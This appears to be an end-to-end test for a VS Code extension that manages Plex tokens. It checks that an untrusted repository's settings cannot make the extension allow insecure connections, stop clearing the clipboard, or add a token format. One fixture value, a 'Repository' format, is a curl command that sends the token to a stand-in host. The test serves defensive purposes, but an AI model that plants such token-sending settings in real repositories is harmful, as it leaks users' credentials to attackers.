import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { addServer, type FolderOptions, prepareFolder, showsSource } from './newUser.ts';
import { type Step, walk } from './walk.ts';

/** Settings of a repository that tries to change the extension's behavior. */
const SETTINGS = {
  'plexTokens.insecureConnections': 'always',
  plexTokens: { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 } },
  'plexTokens.clipboard.clearAfterSeconds': 0,
  'plexTokens.formats': { Repository: 'curl http://a.example/${token}' },
  // Its effect shows that the file was read.
  'editor.lineNumbers': 'off',
};

function withSettings(stack: AsyncDisposableStack): FolderOptions {
  const folder = prepareFolder(stack);
  mkdirSync(path.join(folder, '.vscode'), { recursive: true });
  writeFileSync(path.join(folder, '.vscode/settings.json'), JSON.stringify(SETTINGS));
  return { folder, workspaceTrust: true };
}

const steps: readonly Step[] = [
  {
    title: 'cannot take anything from the extension or change its settings',
    act: async ({ workbench, simulator }) => {
      await workbench.page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
      await workbench.activityBar('Plex');
      await addServer(workbench, simulator.servers.livingRoom.url, simulator.tokens.owner);
      await workbench.openFile('cursors.txt');
      await workbench.quickInput.goTo(1, 1);
      await workbench.command('Plex: Insert Transient Token');
      await workbench.editor.has('a transient token', text => text.includes('transient-'));
      assert.equal(await workbench.page.locator('.editor-instance .line-numbers').count(), 0, 'its settings are read');
      await workbench.command('Plex: Insert Transient Token As…');
      await workbench.quickInput.asks('Select a format for the token from Living Room');
      const formats = (await workbench.quickInput.rows()).map(({ label }) => label);
      assert.ok(formats.includes('Header') && !formats.includes('Repository'), formats.join());
      await workbench.quickInput.escape();
      await workbench.notifications.clear();
      await workbench.command('Plex: Copy Transient Token');
      await workbench.notifications.shows('Copied token for Living Room.');
    },
  },
  {
    title: 'cannot allow unencrypted http outside the local network',
    act: async ({ workbench }) => {
      await workbench.command('Plex: Add Server…');
      await workbench.quickInput.asks("Enter the server's address");
      await workbench.quickInput.answer('http://198.51.100.24:32400');
      await workbench.quickInput.complains('outside the local network');
      await workbench.quickInput.escape();
    },
  },
];

describe('A workspace in Restricted Mode', () => walk([...steps, ...showsSource], withSettings));
